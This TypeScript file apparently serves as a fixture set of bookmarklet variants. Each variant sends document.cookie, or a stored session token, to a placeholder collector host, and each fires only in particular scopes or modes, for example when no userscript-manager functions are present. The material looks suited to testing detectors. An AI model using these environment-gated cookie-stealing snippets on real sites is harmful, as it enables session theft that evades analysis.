/** A bookmarklet that steals in some of the scopes in which something runs it. */
export interface ScopeVariant {
	readonly title: string;
	readonly code: string;
	/** In Chromium it steals as a program only, never in a function. */
	readonly isProgramOnly: boolean;
}

const STEAL = "fetch('https://collector.stranger.test/?c=' + document.cookie)";

const CODES: Readonly<Record<string, string>> = {
	"a property of the window": "var k = 1; if (!window.k) { STEAL }",
	"a property of self": "var k = 1; if (!self.k) { STEAL }",
	"a property of globalThis": "var k = 1; if (!globalThis.k) { STEAL }",
	"a property of frames": "var k = 1; if (!frames.k) { STEAL }",
	"a property of this": "var k = 1; if (!this.k) { STEAL }",
	"a property of top": "var k = 1; if (!top.k) { STEAL }",
	"a property of the default view": "var k = 1; if (!document.defaultView.k) { STEAL }",
	"typeof a property": "var k = 1; if (typeof window.k === 'undefined') { STEAL }",
	"a computed property": "var k = 1; if (!window['k' + '']) { STEAL }",
	hasOwnProperty: "var k = 1; if (!window.hasOwnProperty('k')) { STEAL }",
	"Object.hasOwn": "var k = 1; if (!Object.hasOwn(window, 'k')) { STEAL }",
	"the in operator": "var k = 1; if (!('k' in window)) { STEAL }",
	"Reflect.get": "var k = 1; if (!Reflect.get(window, 'k')) { STEAL }",
	"the keys of the window": "var k = 1; if (Object.keys(window).indexOf('k') < 0) { STEAL }",
	"a property descriptor": "var k = 1; if (!Object.getOwnPropertyDescriptor(window, 'k')) { STEAL }",
	"a loop over the window":
		"var k = 1, found = 0; for (var n in window) if (n === 'k') found = 1; if (!found) { STEAL }",
	"delete of the property": "var k = 1; if (delete window.k) { STEAL }",
	"a function as property": "function k() {} if (window.k !== k) { STEAL }",
	"a function in a block": "{ function k() {} } if (!window.k) { STEAL }",
	"text run by Function": "var k = 1; if (new Function('return typeof k')() === 'undefined') { STEAL }",
	"text run by an indirect eval": "var k = 1; if ((0, eval)('typeof k') === 'undefined') { STEAL }",
	"text run by Function, with let": "let k = 1; if (new Function('return typeof k')() === 'undefined') { STEAL }",
	"text run by a timer": `var k = 1; setTimeout("if (typeof k === 'undefined') { STEAL }")`,
	"arguments are there": "if (typeof arguments !== 'undefined') { STEAL }",
	"arguments are not there": "if (typeof arguments === 'undefined') { STEAL }",
	"a name that the window keeps as text": "var name = {}; if (typeof name === 'object') { STEAL }",
	"a name that the window turns into text": "var name = {}; if (typeof name === 'string') { STEAL }",
	"status as text": "var status = {}; if (typeof status === 'string') { STEAL }",
	"top can be replaced": "var top = 5; if (top === 5) { STEAL }",
	"top stays": "var top = 5; if (top !== 5) { STEAL }",
	"closed can be replaced": "var closed = 5; if (closed === 5) { STEAL }",
	"closed stays": "var closed = 5; if (closed !== 5) { STEAL }",
	"undefined can be replaced": "var undefined = 5; if (undefined === 5) { STEAL }",
	"undefined stays": "var undefined = 5; if (undefined !== 5) { STEAL }",
	"NaN can be replaced": "var NaN = 5; if (NaN === 5) { STEAL }",
	"Infinity can be replaced": "var Infinity = 5; if (Infinity === 5) { STEAL }",
	"strict: a call without a receiver": "'use strict'; (function () { if (!this) { STEAL } })()",
	"strict: what a call sees as this": "'use strict'; function f() { return this } if (f() === undefined) { STEAL }",
	"sloppy: a call without a receiver": "(function () { if (this) { STEAL } })()",
	"strict: an undeclared name": "'use strict'; try { undeclared = 1 } catch { STEAL }",
	"sloppy: an undeclared name": "try { undeclared = 1; STEAL } catch { 0 }",
	"strict: eval keeps its variables": "'use strict'; eval('var z = 1'); if (typeof z === 'undefined') { STEAL }",
	"strict: arguments.callee throws": "'use strict'; (function () { try { arguments.callee } catch { STEAL } })()",
	"strict: arguments are not linked": "'use strict'; (function (a) { a = 2; if (arguments[0] === 1) { STEAL } })(1)",
	"strict: a frozen object": "'use strict'; try { Object.freeze({}).x = 1 } catch { STEAL }",
	"strict: a function in a block": "'use strict'; { function k() {} } if (typeof k === 'undefined') { STEAL }",
	"strict: this of a primitive":
		"'use strict'; Number.prototype.f = function () { if (typeof this === 'number') { STEAL } }; (5).f()",
	"strict in one function": "(function () { 'use strict'; if (this === undefined) { STEAL } })()",
	"no functions of managers": "if (typeof GM_registerMenuCommand === 'undefined') { STEAL }",
	"functions of managers": "if (typeof GM_registerMenuCommand !== 'undefined') { STEAL }",
	"no GM_info": "if (typeof GM_info === 'undefined') { STEAL }",
	"a caller": "function f() { return f.caller } if (f() !== null) { STEAL }",
	"no caller": "function f() { return f.caller } if (f() === null) { STEAL }",
	"the value that is sent":
		"var k = 1; fetch('https://collector.stranger.test/?c=' + (window.k === undefined ? document.cookie : ''))",
	"a name that decides the address":
		"var k = location.origin; fetch((window.k || 'https://collector.stranger.test') + '/?c=' + document.cookie)",
	"let is no property": "let k = 1; if (!window.k) { STEAL }",
	"this of call(null)": "(function () { if (this !== null) { STEAL } }).call(null)",
	"an address as a variable": "var location = 'https://collector.stranger.test/?c=' + document.cookie",
	"a handler as a variable": "var onclick = () => { STEAL }; document.body.click()",
	"storage as a variable":
		"var localStorage = {}; fetch('https://collector.stranger.test/?c=' + localStorage.getItem('session_token'))",
	"no exportFunction": "if (typeof exportFunction === 'undefined') { STEAL }",
	"no cloneInto": "if (typeof cloneInto === 'undefined') { STEAL }",
	"no unsafeWindow": "if (typeof unsafeWindow === 'undefined') { STEAL }",
	"no style function of managers": "try { GM_addStyle('') } catch { STEAL }",
	"another handler": "if (typeof GM_info === 'undefined' || GM_info.scriptHandler !== 'Tampermonkey') { STEAL }",
	"a caught reference": "try { void window.k.length } catch { STEAL } var k = ''",
};

const PROGRAM_ONLY: ReadonlySet<string> = new Set([
	"a name that the window turns into text",
	"status as text",
	"top stays",
	"closed stays",
	"undefined stays",
	"an address as a variable",
	"a handler as a variable",
	"storage as a variable",
	"arguments are not there",
	"no caller",
	"no GM_info",
]);

/** Bookmarklets that steal the cookie in only one of the scopes, or only in one mode, in which something runs them. */
export const scopeVariants: readonly ScopeVariant[] = Object.entries(CODES).map(([title, code]) => ({
	title,
	code: code.replaceAll("STEAL", STEAL),
	isProgramOnly: PROGRAM_ONLY.has(title),
}));
